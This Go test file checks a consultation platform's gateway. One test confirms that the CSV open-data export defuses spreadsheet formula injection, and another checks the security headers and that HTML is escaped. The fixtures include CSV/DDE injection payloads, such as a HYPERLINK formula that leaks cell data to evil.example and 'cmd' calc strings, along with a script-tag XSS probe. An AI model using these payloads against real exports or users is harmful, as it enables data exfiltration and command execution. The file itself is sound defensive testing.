package gateway

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5/pgxpool"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	"github.com/consulta-platform/consulta/pkg/auth"
	submissionv1 "github.com/consulta-platform/consulta/pkg/gen/consulta/submission/v1"
	"github.com/consulta-platform/consulta/pkg/grpcserver"
	"github.com/consulta-platform/consulta/pkg/testenv"
	"github.com/consulta-platform/consulta/services/submission"
)

// edge is the gateway in front of a real submission service (Postgres, the
// grpcserver interceptors), with one open consultation whose only question
// is the text question "vision".
type edge struct {
	web          *httptest.Server
	conn         *grpc.ClientConn
	pool         *pgxpool.Pool
	key          *auth.DevKey
	consultation string
	logs         *lockedBuffer
}

// lockedBuffer collects the log lines written from server goroutines.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

func startEdge(t *testing.T) *edge {
	t.Helper()
	ctx := context.Background()
	e := &edge{logs: &lockedBuffer{}}
	log := slog.New(slog.NewJSONHandler(e.logs, nil))
	var err error
	e.pool, err = pgxpool.New(ctx, testenv.DatabaseURL(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.pool.Close)
	e.consultation = uuid.Must(uuid.NewV7()).String()
	closes := time.Now().Add(time.Hour).UTC()
	doc := fmt.Sprintf(`{"id": %q, "version": 1, "status": "open", "closes_at": %q, "languages": ["en"],
		"questions": [{"id": "vision", "kind": "text"}]}`, e.consultation, closes.Format(time.RFC3339))
	if _, err := e.pool.Exec(ctx, `INSERT INTO submission.consultations (id, version, status, closes_at, document)
		VALUES ($1, 1, 'open', $2, $3)`, e.consultation, closes, doc); err != nil {
		t.Fatal(err)
	}
	e.key, err = auth.LoadOrCreateDevKey(filepath.Join(t.TempDir(), "key.pem"))
	if err != nil {
		t.Fatal(err)
	}
	verifier, err := auth.NewVerifier(ctx, auth.VerifierConfig{JWKS: e.key.JWKS(), Issuer: auth.DevIssuer, Audience: auth.DevAudience})
	if err != nil {
		t.Fatal(err)
	}
	gs, err := grpcserver.New(grpcserver.Config{Logger: log, Verifier: verifier, Policy: submission.Policy()})
	if err != nil {
		t.Fatal(err)
	}
	svc, err := submission.New(submission.Deps{Pool: e.pool, Logger: log, SigningKey: []byte("a test signing key of at least 32 bytes")})
	if err != nil {
		t.Fatal(err)
	}
	svc.Register(gs.GRPC)
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = gs.GRPC.Serve(lis) }()
	t.Cleanup(gs.GRPC.Stop)
	e.conn, err = grpc.NewClient(lis.Addr().String(), grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.conn.Close() })
	h, err := New(ctx, Config{Upstreams: Upstreams{Consultation: e.conn, Submission: e.conn, Summary: e.conn}, Logger: log})
	if err != nil {
		t.Fatal(err)
	}
	e.web = httptest.NewServer(h)
	t.Cleanup(e.web.Close)
	return e
}

// do sends a request to the gateway with a JSON body (when not nil) and
// extra headers as name, value pairs.
func (e *edge) do(t *testing.T, method, path string, body any, headers ...string) (*http.Response, string) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, e.web.URL+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(raw)
}

func (e *edge) submit(t *testing.T, organisation, text string) *submissionv1.CreateSubmissionResponse {
	t.Helper()
	r, err := submissionv1.NewSubmissionServiceClient(e.conn).CreateSubmission(context.Background(), &submissionv1.CreateSubmissionRequest{
		ConsultationId: e.consultation,
		Respondent:     &submissionv1.Respondent{StakeholderType: "academia", Country: "CL", OrganisationName: organisation},
		Answers:        []*submissionv1.Answer{{QuestionId: "vision", Value: &submissionv1.Answer_Text{Text: text}}},
	})
	if err != nil {
		t.Fatalf("submit %q: %v", text, err)
	}
	return r
}

// TestOpenDataCSVInjection sends, through the real export endpoint, a
// submission whose text and organisation name start with each character a
// spreadsheet reads as the start of a formula (and with such a character
// after whitespace or a quote): every such cell of the CSV starts with a
// single quote and is otherwise intact, correctly quoted; harmless cells are
// unchanged; the NDJSON export keeps the values as they were written.
func TestOpenDataCSVInjection(t *testing.T) {
	e := startEdge(t)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		" =1+1",
		"\u00a0\u00a0@x",
		`"=1+1`,
		"'=1+1",
		"\n-1",
	}
	harmless := []string{"Datos abiertos, para todos", "1+1=2", "e-mail: a@b", `Uni "Norte"`}
	want := map[string]string{} // submission id -> text cell expected
	wantOrg := map[string]string{}
	written := map[string]string{}
	for _, s := range hostile {
		r := e.submit(t, "=cmd|' /C calc'!A0", s)
		written[r.GetSubmission().GetId()] = s
		want[r.GetSubmission().GetId()] = "'" + s
		wantOrg[r.GetSubmission().GetId()] = "'=cmd|' /C calc'!A0"
	}
	for _, s := range harmless {
		r := e.submit(t, "Uni Sur", s)
		written[r.GetSubmission().GetId()] = s
		want[r.GetSubmission().GetId()] = s
		wantOrg[r.GetSubmission().GetId()] = "Uni Sur"
	}

	resp, body := e.do(t, http.MethodGet, "/v1/consultations/"+e.consultation+"/open-data.csv", nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("CSV: %d %s", resp.StatusCode, body)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, body)
	}
	if len(records) != 1+len(want) {
		t.Fatalf("%d records, want %d", len(records), 1+len(want))
	}
	for _, rec := range records[1:] {
		id, org, text := rec[0], rec[6], rec[8]
		if text != want[id] {
			t.Errorf("submission %s: text cell %q, want %q", id, text, want[id])
		}
		if org != wantOrg[id] {
			t.Errorf("submission %s: organisation cell %q, want %q", id, org, wantOrg[id])
		}
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("submission %s: cell %q starts a formula", id, cell)
			}
		}
	}

	resp, body = e.do(t, http.MethodGet, "/v1/consultations/"+e.consultation+"/open-data.ndjson", nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("NDJSON: %d %s", resp.StatusCode, body)
	}
	for _, line := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
		var row struct {
			ID      string            `json:"submission_id"`
			Answers map[string]string `json:"answers"`
		}
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		if got := row.Answers["vision"]; got != written[row.ID] {
			t.Errorf("NDJSON %s: %q, want the text as written", row.ID, got)
		}
	}
}

// TestSecurityHeaders: every response says nosniff and may not be framed;
// personal data (submissions, exports, personal-data routes, anything asked
// with a token, every write) is no-store while public pages may be cached;
// the confirmation page has an HTML policy and escapes what it shows; no
// response, success or error, carries the services' gRPC metadata.
func TestSecurityHeaders(t *testing.T) {
	e := startEdge(t)
	created := e.submit(t, "Uni Sur", "Abierto.")
	token, err := e.key.Mint(auth.Principal{Subject: "researcher", Role: auth.RoleStakeholder}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	sub := "/v1/submissions/" + created.GetSubmission().GetId()
	receipt := "/v1/receipts/" + created.GetSubmission().GetReceipt().GetReceiptId()
	cases := []struct {
		method, path string
		body         any
		headers      []string
		noStore      bool
	}{
		{"GET", "/healthz", nil, nil, false},
		{"GET", "/openapi.json", nil, nil, false},
		{"GET", receipt, nil, nil, false},
		{"GET", receipt, nil, []string{"Authorization", "Bearer " + token}, true},
		{"GET", sub, nil, nil, true},
		{"GET", sub, nil, []string{"Grpc-Metadata-X-Edit-Secret", created.GetEditSecret()}, true},
		{"GET", "/v1/submissions/" + uuid.Must(uuid.NewV7()).String(), nil, nil, true}, // 404
		{"GET", "/v1/consultations/" + e.consultation + "/submissions", nil, nil, true},
		{"GET", "/v1/consultations/" + e.consultation + "/open-data.csv", nil, nil, true},
		{"GET", "/v1/consultations/" + e.consultation + "/open-data.ndjson", nil, nil, true},
		{"POST", "/v1/consultations/" + e.consultation + "/submissions", map[string]any{
			"respondent": map[string]any{"stakeholderType": "academia", "country": "CL"},
			"answers":    []map[string]any{{"questionId": "vision", "text": "Por REST."}},
		}, []string{"Content-Type", "application/json", "TE", "trailers"}, true},
		{"POST", "/v1/personal-data:export", map[string]any{"email": "a@example.org"}, nil, true}, // 401
		{"GET", "/confirm?token=x", nil, nil, true},
	}
	for _, c := range cases {
		resp, body := e.do(t, c.method, c.path, c.body, c.headers...)
		name := fmt.Sprintf("%s %s (%d)", c.method, c.path, resp.StatusCode)
		if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", name, got)
		}
		if got := resp.Header.Get("X-Frame-Options"); got != "DENY" {
			t.Errorf("%s: X-Frame-Options %q", name, got)
		}
		if got := resp.Header.Get("Content-Security-Policy"); !strings.Contains(got, "default-src 'none'") ||
			!strings.Contains(got, "frame-ancestors 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", name, got)
		}
		if got := resp.Header.Get("Cache-Control") == "no-store"; got != c.noStore {
			t.Errorf("%s: Cache-Control %q, want no-store: %v", name, resp.Header.Get("Cache-Control"), c.noStore)
		}
		for _, hs := range []http.Header{resp.Header, resp.Trailer} {
			for k := range hs {
				if strings.HasPrefix(strings.ToLower(k), "grpc-") {
					t.Errorf("%s: internal header %s: %v (body %s)", name, k, hs[k], body)
				}
			}
		}
	}

	// The confirmation page: an HTML policy, and what it shows escaped.
	resp, body := e.do(t, "GET", "/confirm?token=%3Cscript%3Ealert(1)%3C%2Fscript%3E", nil)
	if resp.StatusCode != http.StatusBadRequest || resp.Header.Get("Content-Security-Policy") != htmlCSP ||
		!strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
		t.Errorf("confirm page: %d %v", resp.StatusCode, resp.Header)
	}
	if strings.Contains(body, "<script") {
		t.Errorf("the confirmation page shows markup from the request: %s", body)
	}
}
